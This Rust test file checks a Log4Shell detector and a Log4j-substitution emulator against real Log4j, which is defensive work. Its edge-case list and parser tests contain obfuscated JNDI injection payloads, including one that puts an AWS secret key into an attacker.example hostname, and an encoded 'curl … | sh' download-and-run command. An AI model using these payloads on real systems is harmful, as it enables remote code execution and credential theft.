//! Differential tests against Log4j itself.
//!
//! The reference is `tests/oracle/Log4jOracle.java`: Debian's real log4j-core (`liblog4j2-java`)
//! driving `StrSubstitutor` over an `Interpolator` that resolves only `lower`, `upper`, `date`
//! and a harmless `jndi` lookup returning `«jndi:KEY»` (see the header of that file). The corpus
//! `tests/corpus/payloads.jsonl` (written by `scripts/make-log4shell-corpus`) carries the
//! oracle's answer for each payload; the live test asks the oracle about payloads generated
//! afresh, with a random seed, on every run.
//!
//! The live test needs python3, java and the log4j jars. Where one is missing it is skipped
//! with a note, unless `VIGILO_REQUIRE_REFERENCES=1` (set by `scripts/test` and CI), where it
//! fails. `VIGILO_ORACLE_SEED` replays a seed (CI replays a fixed one); `VIGILO_LOG4J_CLASSPATH`
//! points at other jars.

use std::collections::BTreeSet;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use base64::Engine as _;
use serde_json::Value;
use vigilo_detect::eval::{self, Evaluation};
use vigilo_detect::{Callback, Detector, Hit, Options, Rule};

const REQUIRE_ENV: &str = "VIGILO_REQUIRE_REFERENCES";
/// The seed CI replays (`CI` set, `VIGILO_ORACLE_SEED` not).
const CI_SEED: u64 = 20_261_123;
const DEFAULT_CLASSPATH: &str = "/usr/share/java/log4j-core.jar:/usr/share/java/log4j-api.jar";
/// Rules whose payloads the Log4j oracle evaluates.
const LOG4J_RULES: [&str; 4] = [
    "log4shell-jndi",
    "log4shell-jndi-exfil",
    "log4shell-recon",
    "lookup-benign",
];

/// Payloads whose evaluation surprised us while building the corpus: each is checked against
/// the live oracle too (the expected values are Log4j's, never written by hand).
const EDGE_CASES: &[&str] = &[
    "${::-j}",
    "${:-j}${:::::-n}${x:-d}${env:NOPE:-i}",
    "${lower:-}|${upper::-n}|${env::-}|${date:-}|${date:}|${lower:}",
    "${upper:\u{131}}${lower:\u{130}}${upper:\u{17f}}${lower:\u{212a}}${upper:\u{df}}${upper:\u{fb06}}",
    "${JnDi:LDAP://X.example/A}",
    "${jnd\u{131}:ldap://x.example/a}${jnd\u{130}:ldap://x.example/a}",
    "${\u{212a}8s:k5:-j}ndi",
    "${date:'j'}${date:''}${date:/}${date:'ldap'}",
    "${lower:$${jndi:ldap://y.example/b}}",
    "$${jndi:ldap://escaped.example/a}",
    "${jndi:ldap://x.example/a:\\-b}|${jndi:ldap://x.example/a:\\-b:-c}|${::\\-x}",
    "${lower::\\-l}",
    "${jndi:ldap://unbalanced.example/{x}",
    "${jndi:ldap://unterminated.example/a",
    "${${::-j}ndi:${lower:l}dap://unterminated.example/a",
    "${${lower:$}{jndi:ldap://d.example/}}",
    "${jndi:ldap://a.example/${jndi:rmi://b.example/}}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.${${lower:e}nv:USER}.attacker.example/a}",
    "${java:version} ${hostName} ${${lower:J}ava:os}",
    "${j${upper:${lower:n}}di:ldap://x.example/a}",
    "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://x.example/poc}",
    "${::-${jndi:ldap://in-default.example/a}}",
    "}${}${:}${-}${::}${$}$${}${${}}",
];

#[derive(Debug)]
struct Entry {
    id: String,
    payload: String,
    line: String,
    rule: String,
    expect: Option<Expected>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
struct Expected {
    output: String,
    jndi: Vec<String>,
}

fn corpus_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus")
}

fn parse_entry(line: &str) -> Entry {
    let v: Value = serde_json::from_str(line).expect("corpus line is JSON");
    let text = |k: &str| {
        v[k].as_str()
            .unwrap_or_else(|| panic!("corpus entry without {k}: {line}"))
            .to_owned()
    };
    let expect = match &v["expect"] {
        Value::Null => None,
        e => Some(Expected {
            output: e["output"].as_str().expect("expect.output").to_owned(),
            jndi: e["jndi"]
                .as_array()
                .expect("expect.jndi")
                .iter()
                .map(|k| k.as_str().expect("jndi key").to_owned())
                .collect(),
        }),
    };
    Entry {
        id: text("id"),
        payload: text("payload"),
        line: text("line"),
        rule: text("rule"),
        expect,
    }
}

fn corpus() -> Vec<Entry> {
    let path = corpus_dir().join("payloads.jsonl");
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "{}: {e} (run scripts/make-log4shell-corpus)",
            path.display()
        )
    });
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .map(parse_entry)
        .collect()
}

fn evaluation_matches(got: &Evaluation, want: &Expected) -> bool {
    got.output == want.output && got.jndi == want.jndi && !got.truncated
}

fn show_mismatch(id: &str, payload: &str, got: &Evaluation, want: &Expected) -> String {
    format!(
        "{id}: {payload:?}\n    log4j:    output {:?} jndi {:?}\n    evaluate: output {:?} jndi {:?} truncated {}",
        want.output, want.jndi, got.output, got.jndi, got.truncated
    )
}

fn fail_with(what: &str, failures: &[String], total: usize) {
    assert!(
        failures.is_empty(),
        "{what}: {} of {total} differ; the first ones:\n{}",
        failures.len(),
        failures
            .iter()
            .take(25)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
}

// ---- (4) the corpus itself -------------------------------------------------------------

#[test]
fn corpus_has_at_least_500_distinct_obfuscated_log4shell_payloads() {
    let entries = corpus();
    let generated: BTreeSet<&str> = entries
        .iter()
        .filter(|e| e.id.starts_with("gen-") && e.rule.starts_with("log4shell-"))
        .map(|e| e.payload.as_str())
        .collect();
    assert!(
        generated.len() >= 500,
        "only {} distinct generated Log4Shell payloads",
        generated.len()
    );
    let ids: BTreeSet<&str> = entries.iter().map(|e| e.id.as_str()).collect();
    assert_eq!(ids.len(), entries.len(), "corpus ids are unique");
    assert!(
        entries.iter().any(|e| e.id.starts_with("rw-")),
        "real-world entries present"
    );
    for e in &entries {
        assert!(
            Rule::from_code(&e.rule).is_some(),
            "{}: unknown rule {}",
            e.id,
            e.rule
        );
        assert_eq!(
            e.expect.is_some(),
            LOG4J_RULES.contains(&e.rule.as_str()),
            "{}: Log4j entries, and only they, carry the oracle's answer",
            e.id
        );
    }
}

// ---- (1) evaluate == Log4j on the committed corpus ---------------------------------------

#[test]
fn evaluate_matches_log4j_on_the_corpus() {
    let entries = corpus();
    let mut failures = Vec::new();
    let mut total = 0;
    for e in &entries {
        let Some(want) = &e.expect else { continue };
        total += 1;
        let got = eval::evaluate(&e.payload);
        if !evaluation_matches(&got, want) {
            failures.push(show_mismatch(&e.id, &e.payload, &got, want));
        }
    }
    assert!(
        total >= 500,
        "only {total} corpus entries carry an expectation"
    );
    fail_with(
        "eval::evaluate against Log4j (tests/corpus/payloads.jsonl)",
        &failures,
        total,
    );
}

// ---- (2) the detector finds every corpus line ----------------------------------------

/// A remote JNDI URL as the oracle's jndi key spells it.
#[derive(Debug, PartialEq, Eq)]
struct JndiUrl {
    protocol: String,
    host: String,
    port: Option<u16>,
    path: String,
}

/// The byte index of the first of `stops` in `s` outside `${…}` groups (unresolved lookups,
/// such as `${env:X}` in an exfiltrating host, are opaque).
fn find_outside_lookups(s: &str, stops: &[char]) -> Option<usize> {
    let mut depth = 0usize;
    let mut chars = s.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        if c == '$' && chars.peek().map(|&(_, n)| n) == Some('{') {
            chars.next();
            depth += 1;
        } else if c == '}' && depth > 0 {
            depth -= 1;
        } else if depth == 0 && stops.contains(&c) {
            return Some(i);
        }
    }
    None
}

/// Parses a jndi key as `protocol://host[:port][/path]`, for the remote protocols.
fn parse_jndi_key(key: &str) -> Option<JndiUrl> {
    const REMOTE: [&str; 10] = [
        "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http", "https",
    ];
    let (protocol, rest) = key.split_once("://")?;
    let protocol = protocol.to_ascii_lowercase();
    if !REMOTE.contains(&protocol.as_str()) {
        return None;
    }
    let (authority, path) = match find_outside_lookups(rest, &['/']) {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, ""),
    };
    // the port: digits after the last ':' outside lookups
    let mut last_colon = None;
    let mut from = 0;
    while let Some(i) = find_outside_lookups(&authority[from..], &[':']) {
        last_colon = Some(from + i);
        from += i + 1;
    }
    let (host, port) = match last_colon {
        Some(i)
            if !authority[i + 1..].is_empty()
                && authority[i + 1..].bytes().all(|b| b.is_ascii_digit()) =>
        {
            (&authority[..i], authority[i + 1..].parse().ok())
        }
        _ => (authority, None),
    };
    if host.is_empty() {
        return None;
    }
    Some(JndiUrl {
        protocol,
        host: host.to_owned(),
        port,
        path: path.to_owned(),
    })
}

/// The well-known port of a JNDI protocol, which a detector may report when the URL has none.
fn default_port(protocol: &str) -> Option<u16> {
    match protocol {
        "ldap" => Some(389),
        "ldaps" => Some(636),
        "rmi" => Some(1099),
        "dns" => Some(53),
        "iiop" | "corba" => Some(900),
        "http" => Some(80),
        "https" => Some(443),
        _ => None,
    }
}

fn callback_matches(cb: &Callback, want: &JndiUrl) -> bool {
    let port_ok = match want.port {
        Some(p) => cb.port == Some(p),
        None => cb.port.is_none() || cb.port == default_port(&want.protocol),
    };
    cb.protocol == want.protocol && cb.host == want.host && port_ok && cb.path == want.path
}

/// The command an exploit-kit path (`…/Base64/<base64>`) carries, decoded.
fn kit_command(path: &str) -> Option<String> {
    let (_, b64) = path.split_once("/Base64/")?;
    let bytes = base64::engine::general_purpose::STANDARD.decode(b64).ok()?;
    Some(String::from_utf8(bytes).ok()?.trim().to_owned())
}

fn describe_hits(hits: &[Hit]) -> String {
    if hits.is_empty() {
        return "no hits".to_owned();
    }
    hits.iter()
        .map(|h| format!("{} {:?}", h.rule.code(), h.callback))
        .collect::<Vec<_>>()
        .join("; ")
}

/// Why the detector's hits on `e.line` do not meet the entry's expectation, if they do not.
fn detector_problem(detector: &Detector, e: &Entry) -> Option<String> {
    let hits = detector.scan_bytes(e.line.as_bytes());
    let rule = Rule::from_code(&e.rule).expect("known rule");
    let problem = match rule {
        Rule::Log4ShellJndi | Rule::Log4ShellExfil => {
            let expect = e.expect.as_ref().expect("Log4j entries carry expect");
            let key = expect
                .jndi
                .first()
                .expect("a remote-lookup entry has a jndi key");
            let want = parse_jndi_key(key).expect("the corpus checked this key parses");
            let found = hits.iter().find(|h| {
                h.rule == rule
                    && h.callback
                        .as_ref()
                        .is_some_and(|cb| callback_matches(cb, &want))
            });
            match found {
                None => Some(format!("want {} {want:?}", rule.code())),
                Some(h) if rule == Rule::Log4ShellExfil && h.exfiltrates.is_empty() => {
                    Some("an exfiltration hit without `exfiltrates`".to_owned())
                }
                Some(h) => match kit_command(&want.path) {
                    Some(cmd) if h.command.as_deref().map(str::trim) != Some(cmd.as_str()) => {
                        Some(format!("want command {cmd:?}"))
                    }
                    _ => None,
                },
            }
        }
        Rule::Log4ShellRecon | Rule::Text4Shell | Rule::Spring4Shell => {
            (!hits.iter().any(|h| h.rule == rule)).then(|| format!("want a {} hit", rule.code()))
        }
        Rule::LookupBenign => hits
            .iter()
            .any(|h| h.rule.is_remote_lookup())
            .then(|| "want no remote-lookup hit".to_owned()),
    };
    problem.map(|p| {
        format!(
            "{}: {p}, got {}\n    line: {}",
            e.id,
            describe_hits(&hits),
            e.line
        )
    })
}

#[test]
fn detector_reports_each_corpus_line_with_the_oracles_callback() {
    let detector = Detector::new(Options::default());
    let entries = corpus();
    let failures: Vec<String> = entries
        .iter()
        .filter_map(|e| detector_problem(&detector, e))
        .collect();
    fail_with(
        "Detector::scan_bytes on the corpus lines",
        &failures,
        entries.len(),
    );
}

#[test]
fn jndi_keys_parse_as_the_detector_must_report_them() {
    let url = |protocol: &str, host: &str, port: Option<u16>, path: &str| JndiUrl {
        protocol: protocol.to_owned(),
        host: host.to_owned(),
        port,
        path: path.to_owned(),
    };
    assert_eq!(
        parse_jndi_key("ldap://x.example:1389/Basic/Command/Base64/YQ=="),
        Some(url(
            "ldap",
            "x.example",
            Some(1389),
            "/Basic/Command/Base64/YQ=="
        ))
    );
    assert_eq!(
        parse_jndi_key("LDAP://X.example/A"),
        Some(url("ldap", "X.example", None, "/A"))
    );
    assert_eq!(
        parse_jndi_key("dns://${env:AWS_SECRET_ACCESS_KEY}.${sys:user.name}.a.example"),
        Some(url(
            "dns",
            "${env:AWS_SECRET_ACCESS_KEY}.${sys:user.name}.a.example",
            None,
            ""
        ))
    );
    assert_eq!(
        parse_jndi_key("rmi://${${lower:e}nv:USER}.a.example:1099/${java:version}"),
        Some(url(
            "rmi",
            "${${lower:e}nv:USER}.a.example",
            Some(1099),
            "/${java:version}"
        ))
    );
    assert_eq!(parse_jndi_key("ldap"), None);
    assert_eq!(parse_jndi_key("java:comp/env/jdbc/ds"), None);
    assert_eq!(parse_jndi_key("${env:NaN:l}dap://x.example/a"), None);
    assert_eq!(
        kit_command("/Basic/Command/Base64/Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaAo="),
        Some("curl http://192.0.2.1/x | sh".to_owned())
    );
}

// ---- (3) live: fresh payloads through the real Log4j ------------------------------------

fn references_required() -> bool {
    std::env::var(REQUIRE_ENV).is_ok_and(|v| v == "1")
}

/// A missing reference: a failure when references are required, else a skip with a note.
#[allow(clippy::print_stderr)]
fn unavailable(why: &str) {
    assert!(
        !references_required(),
        "the Log4j oracle is required ({REQUIRE_ENV}=1) but unavailable: {why} \
         (run scripts/install-test-deps)"
    );
    eprintln!("skipping the live Log4j differential test: {why}");
}

fn on_path(program: &str) -> Option<PathBuf> {
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path)
        .map(|dir| dir.join(program))
        .find(|p| p.is_file())
}

fn java() -> Option<PathBuf> {
    if let Some(home) = std::env::var_os("JAVA_HOME") {
        let java = PathBuf::from(home).join("bin/java");
        if java.is_file() {
            return Some(java);
        }
    }
    on_path("java")
}

/// Runs `program` with `stdin`, returning stdout; panics (with stderr) if it fails.
fn run(what: &str, mut command: Command, stdin: String) -> String {
    let mut child = command
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start {what}: {e}"));
    let mut pipe = child.stdin.take().expect("stdin");
    let writer = std::thread::spawn(move || pipe.write_all(stdin.as_bytes()));
    let out = child.wait_with_output().expect("waiting for the child");
    writer
        .join()
        .expect("writer thread")
        .unwrap_or_else(|e| panic!("writing to {what}: {e}"));
    assert!(
        out.status.success(),
        "{what} failed ({}):\n{}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap_or_else(|e| panic!("{what} wrote non-UTF-8: {e}"))
}

/// Evaluates `payloads` with the real Log4j: one JVM for all of them.
fn oracle(java: &Path, classpath: &str, payloads: &[String]) -> Vec<Result<Expected, String>> {
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/oracle/Log4jOracle.java");
    let mut input = String::new();
    for p in payloads {
        input.push_str(&serde_json::to_string(p).expect("JSON string"));
        input.push('\n');
    }
    let mut cmd = Command::new(java);
    cmd.args(["-Duser.language=en", "-Duser.country=US", "-cp", classpath])
        .arg(&source);
    let out = run("the Log4j oracle", cmd, input);
    let answers: Vec<Result<Expected, String>> = out
        .lines()
        .map(|l| {
            let v: Value = serde_json::from_str(l).expect("oracle output is JSON");
            if let Some(err) = v["error"].as_str() {
                return Err(err.to_owned());
            }
            Ok(Expected {
                output: v["output"].as_str().expect("output").to_owned(),
                jndi: v["jndi"]
                    .as_array()
                    .expect("jndi")
                    .iter()
                    .map(|k| k.as_str().expect("key").to_owned())
                    .collect(),
            })
        })
        .collect();
    assert_eq!(
        answers.len(),
        payloads.len(),
        "one oracle answer per payload"
    );
    answers
}

#[test]
fn evaluate_matches_live_log4j_on_fresh_payloads() {
    let classpath =
        std::env::var("VIGILO_LOG4J_CLASSPATH").unwrap_or_else(|_| DEFAULT_CLASSPATH.to_owned());
    live_differential(&classpath, "Debian's log4j-core 2.19.0", &[]);
}

/// The same against log4j-core 2.14.1, the last release before the fix
/// (`.cache/test-jars`, from scripts/fetch-test-jars), with Debian's
/// log4j-api: the version attackers aimed at. Here values, defaults
/// included, are substituted again, which the emulator does too.
#[test]
fn evaluate_matches_the_vulnerable_log4j_2_14_1() {
    let jar = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../.cache/test-jars/log4j-core-2.14.1.jar");
    let classpath = format!("{}:/usr/share/java/log4j-api.jar", jar.display());
    live_differential(
        &classpath,
        "log4j-core 2.14.1",
        &[
            "${::-$${jndi:ldap://z.example/c}}",
            // 2.14.1 throws on a cyclic variable where 2.17+ leaves it unresolved; the
            // emulator follows 2.17+ there, so no cyclic case is listed.
        ],
    );
}

#[allow(clippy::print_stderr)]
fn live_differential(classpath: &str, label: &str, extra: &[&str]) {
    let Some(python) = on_path("python3") else {
        unavailable("python3 is not on PATH");
        return;
    };
    let Some(java) = java() else {
        unavailable("java is not on PATH (nor in JAVA_HOME)");
        return;
    };
    if let Some(jar) = std::env::split_paths(classpath).find(|p| !p.is_file()) {
        unavailable(&format!(
            "{} is missing (Debian package liblog4j2-java)",
            jar.display()
        ));
        return;
    }
    // A fresh seed each local run explores new payloads; CI replays a fixed
    // one, so that a landing never depends on the draw.
    let seed: u64 = match std::env::var("VIGILO_ORACLE_SEED") {
        Ok(s) => s.parse().expect("VIGILO_ORACLE_SEED is a number"),
        Err(_) if std::env::var("CI").is_ok_and(|v| !v.is_empty() && v != "false") => CI_SEED,
        Err(_) => rand::random::<u32>().into(),
    };
    eprintln!(
        "live Log4j differential test ({label}): seed {seed} (replay with VIGILO_ORACLE_SEED={seed})"
    );

    let mut cmd = Command::new(python);
    cmd.arg(corpus_dir().join("generate.py"))
        .args(["--seed", &seed.to_string(), "--count", "400"]);
    let generated = run("generate.py", cmd, String::new());
    let mut entries: Vec<Entry> = generated.lines().map(parse_entry).collect();
    let log4j: Vec<usize> = (0..entries.len())
        .filter(|&i| LOG4J_RULES.contains(&entries[i].rule.as_str()))
        .collect();
    let mut cases: Vec<(String, String)> = log4j
        .iter()
        .map(|&i| (entries[i].id.clone(), entries[i].payload.clone()))
        .collect();
    assert!(
        cases.len() >= 300,
        "generate.py gave only {} Log4j payloads",
        cases.len()
    );
    cases.extend(
        EDGE_CASES
            .iter()
            .enumerate()
            .map(|(i, p)| (format!("edge-{i}"), (*p).to_owned())),
    );
    cases.extend(
        extra
            .iter()
            .enumerate()
            .map(|(i, p)| (format!("extra-{i}"), (*p).to_owned())),
    );

    let payloads: Vec<String> = cases.iter().map(|(_, p)| p.clone()).collect();
    let answers = oracle(&java, classpath, &payloads);
    let mut failures = Vec::new();
    for ((id, payload), answer) in cases.iter().zip(&answers) {
        let want = match answer {
            Ok(w) => w,
            Err(err) => {
                failures.push(format!("{id}: {payload:?}: Log4j threw {err}"));
                continue;
            }
        };
        let got = eval::evaluate(payload);
        if !evaluation_matches(&got, want) {
            failures.push(show_mismatch(id, payload, &got, want));
        }
    }
    fail_with(
        &format!("eval::evaluate against live {label}, seed {seed} (VIGILO_ORACLE_SEED={seed})"),
        &failures,
        cases.len(),
    );

    // The detector on the fresh log lines, as it must report them (the
    // generator's label, confirmed by Log4j for the Log4j families).
    for (k, &i) in log4j.iter().enumerate() {
        if let Some(Ok(w)) = answers.get(k) {
            entries[i].expect = Some(w.clone());
        }
    }
    let detector = Detector::new(Options::default());
    let mut checked = 0;
    let mut problems = Vec::new();
    for e in &entries {
        let remote = e
            .expect
            .as_ref()
            .and_then(|x| x.jndi.first())
            .is_some_and(|k| parse_jndi_key(k).is_some());
        let consistent = match Rule::from_code(&e.rule) {
            Some(Rule::Log4ShellJndi | Rule::Log4ShellExfil) => remote,
            Some(Rule::LookupBenign) => e.expect.is_some() && !remote,
            Some(_) => true,
            None => false,
        };
        if !consistent {
            continue;
        }
        checked += 1;
        problems.extend(detector_problem(&detector, e));
    }
    assert!(checked >= 300, "only {checked} fresh lines checked");
    fail_with(
        &format!("Detector::scan_bytes on fresh lines, seed {seed} (VIGILO_ORACLE_SEED={seed})"),
        &problems,
        checked,
    );
}
